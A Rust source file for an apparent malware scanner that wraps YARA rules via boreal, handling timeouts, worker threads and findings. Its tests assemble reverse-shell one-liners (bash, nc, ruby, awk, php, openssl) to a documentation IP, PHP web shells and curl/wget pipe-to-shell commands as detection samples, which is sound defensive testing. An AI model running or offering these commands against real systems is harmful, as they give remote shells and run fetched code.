//! YARA rules, through boreal: those of the library and our own.
//!
//! Rules are foreign programs: a regular expression can take for ever, and a condition too. boreal looks at its clock between
//! matches but not within one, so the rules of the library have a thread of their own that is waited for up to a deadline; when they
//! miss it, the files of rules are tried one by one, and those that miss it alone are given up for the rest of the command. The thread
//! ends when boreal returns.

mod compile;
mod library;
mod pieces;
mod text;
mod worker;

use std::sync::Arc;
use std::sync::atomic::AtomicU64;
use std::time::Duration;

use boreal::scanner::{EvaluatedRule, ScanError, ScanParams};
use boreal::{MetadataValue, Scanner};

use super::{Answer, Engine, Finding, Subject, Trouble, Whole};
use crate::agent::context::{Meter, Stop};
pub use compile::{builtin, compile};
pub use library::Library;
use pieces::{Outcome, Pieces};
use text::SIZE;
use worker::{Came, Job, Worker};

/// How long a set of rules may look at one thing: so long, and so much more for each megabyte.
const LOOK: Duration = Duration::from_secs(4);
const LOOK_A_MEGABYTE: Duration = Duration::from_secs(1);
/// Rules that took too long so many times together are given up.
const MAX_SLOW: u32 = 3;
/// What a rule weighs that does not say so itself.
const WEIGHT: u32 = 60;
/// The most findings of one thing.
const MAX_FINDINGS: usize = 200;

fn limits(bytes: u64) -> ScanParams {
    ScanParams::default().timeout_duration(Some(patience(bytes))).match_max_length(0).string_max_nb_matches(1000)
}

/// How long rules may look at so many bytes.
fn patience(bytes: u64) -> Duration {
    LOOK + LOOK_A_MEGABYTE * u32::try_from(bytes / 1_000_000).unwrap_or(u32::MAX)
}

/// What a look counts in, and is stopped by.
#[derive(Debug, Clone)]
pub struct Tally {
    /// The word to stop.
    pub stop: Stop,
    /// What it costs.
    pub meter: Arc<Meter>,
    /// Bytes that were looked at.
    pub done: Arc<AtomicU64>,
}

/// Our own rules as an engine. They are known to end: no thread, which costs more than they do on small files.
pub struct Builtin {
    scanner: Scanner,
    tally: Tally,
}

/// The rules of the library as an engine.
pub struct Yara {
    library: Arc<Library>,
    tally: Tally,
    /// The thread, and which of the library's sets it has.
    worker: Option<(usize, Worker)>,
    /// How many times they took too long together.
    slow: u32,
}

type Looked = Result<Seen, String>;

/// What came of a look.
#[derive(Debug, Default, PartialEq, Eq)]
struct Seen {
    findings: Vec<Finding>,
    /// Whether it took too long, and ended before its end.
    slow: bool,
    /// What was not looked at, and why.
    passed_over: Vec<String>,
}

impl Builtin {
    /// Those rules, as [`builtin`] made them.
    #[must_use]
    pub fn new(scanner: Scanner, tally: Tally) -> Self {
        Self { scanner, tally }
    }
}

impl Yara {
    /// Those of a library.
    #[must_use]
    pub fn new(library: Arc<Library>, tally: Tally) -> Self {
        Self { library, tally, worker: None, slow: 0 }
    }
}

fn look(scanner: &mut Scanner, job: Job, tally: &Tally, engine: &'static str, named: bool) -> Looked {
    scanner.set_scan_params(limits(job.bytes()));
    let size = i64::try_from(job.size).unwrap_or(i64::MAX);
    scanner.define_symbol(SIZE, size).map_err(|error| error.to_string())?;
    let mut seen = Seen::default();
    let (scanned, outcome) = match job.rest {
        None => (scanner.scan_mem(&job.start), None),
        Some((file, bound)) => {
            let outcome = Arc::new(Outcome::default());
            let pieces = Pieces::new(file, Arc::clone(&job.start), job.size, bound, tally.clone(), Arc::clone(&outcome));
            (scanner.scan_fragmented(pieces), Some((outcome, bound)))
        }
    };
    let found = match scanned {
        Ok(found) => found,
        Err((ScanError::Timeout, found)) => {
            seen.slow = true;
            found
        }
        Err((error, _)) => return Err(error.to_string()),
    };
    if let Some((outcome, bound)) = outcome {
        seen.passed_over = outcome.told(job.size, bound);
    }
    seen.findings = found.rules.iter().take(MAX_FINDINGS).map(|rule| finding(scanner, rule, engine, named)).collect();
    if found.rules.len() > MAX_FINDINGS {
        seen.passed_over.push(format!("{} rules match, of which {MAX_FINDINGS} are told", found.rules.len()));
    }
    Ok(seen)
}

fn finding(scanner: &Scanner, rule: &EvaluatedRule<'_>, engine: &'static str, named: bool) -> Finding {
    let (mut weight, mut description) = (None, None);
    for meta in rule.metadatas {
        match (scanner.get_string_symbol(meta.name), meta.value) {
            ("weight", MetadataValue::Integer(value)) => weight = Some(value),
            ("score", MetadataValue::Integer(value)) => weight = weight.or(Some(value)),
            ("description", MetadataValue::Bytes(text)) => {
                description =
                    Some(String::from_utf8_lossy(scanner.get_bytes_symbol(text)).chars().take(300).collect::<String>());
            }
            _ => {}
        }
    }
    let first = rule.matches.iter().filter_map(|found| {
        let first = found.matches.first()?;
        Some((first.base.saturating_add(first.offset), found.name))
    });
    let place = first.min().map(|(offset, name)| format!("${name} at byte {offset}"));
    let mut what = description.unwrap_or_else(|| "its content matches".to_owned());
    if let Some(place) = place {
        what = format!("{what} ({place})");
    }
    Finding {
        engine,
        rule: if named { format!("{}:{}", rule.namespace, rule.name) } else { rule.name.to_owned() },
        weight: weight.map_or(WEIGHT, |weight| u32::try_from(weight.clamp(0, 100)).unwrap_or(WEIGHT)),
        what,
        place: None,
    }
}

fn job_of(whole: &Whole<'_>) -> Result<Job, Trouble> {
    let failed = |error: std::io::Error| Trouble::Here(error.to_string());
    let rest = whole.rest.map(|rest| rest.file.try_clone().map(|file| (file, rest.bound))).transpose().map_err(failed)?;
    Ok(Job { start: Arc::clone(&whole.start), size: whole.size, rest })
}

impl Engine for Builtin {
    fn name(&self) -> &'static str {
        "builtin"
    }

    fn look(&mut self, _subject: &Subject<'_>, whole: &Whole<'_>, _found: &[Finding]) -> Answer {
        if whole.start.is_empty() {
            return Ok(Vec::new());
        }
        let job = job_of(whole)?;
        let bytes = job.bytes();
        let looked = look(&mut self.scanner, job, &self.tally, "builtin", false);
        if self.tally.stop.asked() {
            return Err(Trouble::Stopped);
        }
        let seen = looked.map_err(Trouble::Here)?;
        told(seen, whole, |seen| {
            let why = format!("builtin: its rules took more than {}", too_long(bytes));
            if seen.findings.is_empty() { Err(Trouble::Here(why)) } else { Ok(why) }
        })
    }
}

impl Engine for Yara {
    fn name(&self) -> &'static str {
        "yara"
    }

    fn look(&mut self, _subject: &Subject<'_>, whole: &Whole<'_>, _found: &[Finding]) -> Answer {
        if whole.start.is_empty() {
            return Ok(Vec::new());
        }
        let job = job_of(whole)?;
        let bytes = job.bytes();
        let first = self.library.set().round;
        loop {
            let set = self.library.set();
            let Some(scanner) = &set.scanner else { return Err(Trouble::Gone(set.lost())) };
            let worker = match self.worker.take() {
                Some((round, worker)) if round == set.round => worker,
                _ => Worker::start(scanner.clone(), self.tally.clone())?,
            };
            let came = worker.look(job.again()?, &self.tally)?;
            let seen = match came {
                Came::Answer(looked) => {
                    self.worker = Some((set.round, worker));
                    Some(looked.map_err(Trouble::Here)?)
                }
                Came::Nothing => None,
            };
            if self.tally.stop.asked() {
                return Err(Trouble::Stopped);
            }
            let is_slow = seen.as_ref().is_none_or(|seen| seen.slow);
            if is_slow && self.library.search(&set, &job, &self.tally)? {
                continue;
            }
            for why in set.lost_since(first) {
                whole.pass_over(format!("yara: {why}"));
            }
            let together = || format!("its rules took together more than {}", too_long(bytes));
            let Some(seen) = seen else { return Err(Trouble::Gone(format!("{}, and are given up", together()))) };
            let slow = &mut self.slow;
            return told(seen, whole, |seen| {
                *slow += 1;
                match () {
                    () if *slow >= MAX_SLOW => Err(Trouble::Gone(format!("{}, and are given up", together()))),
                    () if seen.findings.is_empty() => Err(Trouble::Here(together())),
                    () => Ok(format!("yara: {}", together())),
                }
            });
        }
    }
}

fn too_long(bytes: u64) -> String {
    format!("{} s for {bytes} bytes", patience(bytes).as_secs())
}

/// Tells what was seen. `slow` says what there is to say where it ended before its end: what was found by then is true all the same.
fn told(seen: Seen, whole: &Whole<'_>, slow: impl FnOnce(&Seen) -> Result<String, Trouble>) -> Answer {
    let why = if seen.slow { Some(slow(&seen)?) } else { None };
    for what in seen.passed_over.into_iter().chain(why) {
        whole.pass_over(what);
    }
    Ok(seen.findings)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn look_at(scanner: &Scanner, bytes: &[u8]) -> Vec<Finding> {
        let job = Job { start: Arc::new(bytes.to_vec()), size: bytes.len() as u64, rest: None };
        let tally = Tally { stop: Stop::default(), meter: Arc::default(), done: Arc::default() };
        look(&mut scanner.clone(), job, &tally, "builtin", false).unwrap().findings
    }

    #[test]
    fn our_own_rules_compile_and_do_not_match_themselves() {
        let scanner = builtin().unwrap();
        assert!(scanner.rules().count() >= 6);
        let text = include_bytes!("../builtin.yar");
        let check = |bytes: &[u8]| look_at(&scanner, bytes);
        assert_eq!(check(text), []);
        assert_eq!(check(&[b"\x7fELF".as_slice(), &[0; 12], &[3, 0], text].concat()), []);
    }

    #[test]
    fn what_they_are_for_is_found() {
        let scanner = builtin().unwrap();
        let check = |text: &str, rule: &str, weight: u32| {
            let found = look_at(&scanner, text.as_bytes());
            assert_eq!(
                found.iter().map(|found| (found.rule.as_str(), found.weight)).collect::<Vec<_>>(),
                [(rule, weight)],
                "{text}"
            );
        };
        let eicar = [r"X5O!P%@AP[4\PZX54(P^)7CC)7}$", "EICAR-STANDARD-ANTIVIRUS", "-TEST-FILE!$H+H*"].concat();
        check(&eicar, "eicar_test_file", 100);
        check(&format!("\x7fELF..{eicar}"), "eicar_test_file", 100);
        // Put together here, so that no engine finds this file.
        let filled =
            |text: &str| text.replace("DEV", "/dev").replace("IP", "192.0.2.7").replace("GET", "_GET").replace('~', "");
        let reverse = [
            "* * * * * root bash -i >& DEV/tcp/IP/4444 0>&1",
            "sh -i 5<> DEV/tcp/IP/4444 0<&5 1>&5 2>&5",
            "/bin/bash -l > DEV/tcp/IP/4242 0<&1 2>&1",
            "nc -e /bin/s~h IP 4444",
            "ncat IP 4444 -e /bin/s~h",
            "ncat IP 4444 --exec /bin/ba~sh",
            "nc -c s~h IP 4444",
            "nc IP 4444 -c ba~sh",
            "ruby -rsocket -e 'f=TCP~Socket.open(\"IP\",4444).to_i;exec sprintf(\"/bin/sh -i <&%d >&%d 2>&%d\",f,f,f)'",
            "ruby -rsocket -e 'c=TCP~Socket.new(\"IP\",4444);while(cmd=c.gets);IO.popen(cmd,\"r\"){|io|c.print io.read}end'",
            "awk 'BEGIN {s = \"/in~et/tcp/0/IP/4444\"; while(42) { do{ printf \">\" |& s; s |& getline c; \
             if(c){ while ((c |& getline) > 0) print $0 |& s; close(c); } } while(c != \"exit\") close(s); }}'",
            "mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | open~ssl s_client -quiet -connect IP:4444 > /tmp/s; rm /tmp/s",
            "php -r '$s=fsock~open(\"IP\",4444);exec(\"sh <&3 >&3 2>&3\");'",
            "php -r '$s=fsock~open(\"IP\",4444);exec(\"/bin/sh -i <&3 >&3 2>&3\");'",
        ];
        let php = [
            "<?php @eval($~GET['x']); ?>",
            "<?=`$~GET[c]`?>",
            "<?php include $~GET['f'];",
            "<?php require_once(@$~GET['f']);",
            "<?php $a='sys'.'tem';$a($~GET['c']);",
        ];
        let runs = [
            "curl -s http://IP/x.sh | bash",
            "bash -c \"$(cur~l -fsSL http://IP/x)\"",
            "bash <(cur~l -s http://IP:8080/x)",
            "eval `wge~t -qO- IP/x`",
            "wge~t -qO- IP/x|sh",
        ];
        for (lines, rule, weight) in
            [(&reverse[..], "reverse_shell", 60), (&php[..], "php_web_shell", 70), (&runs[..], "downloads_and_runs", 40)]
        {
            for line in lines {
                check(&filled(line), rule, weight);
                // Much around it hides nothing.
                let padding = "# nothing is here\n".repeat(60_000);
                check(&format!("{padding}{}\n{padding}", filled(line)), rule, weight);
            }
        }
        let clean = [
            "",
            "text",
            "echo DEV/tcp",
            "timeout 1 bash -c \"</dev/tcp/$host/$port\"",
            "nc -z IP 22 && sh -c true",
            "sync -c sh; rsync -e ssh a b",
            "curl -sSf https://sh.rustup.rs | sh",
            "curl http://IP/data | sort",
            "bash -c \"$(curl -fsSL https://example.org/install.sh)\"",
            "echo \"curl 1.2.3.4\"; ls | sh",
            "<?php echo $~GET['x']; ?>",
            "<?php // The name is in `$~GET['x']`, as ever.",
            "<?php include 'a.php'; $x = 'a'.'b'; f($~GET['x']);",
            "<?php $f = trim($~GET['x']);",
            "openssl s_client -connect IP:443 < /dev/null",
        ];
        for clean in clean {
            assert_eq!(look_at(&scanner, filled(clean).as_bytes()), [], "{clean}");
        }
    }
}
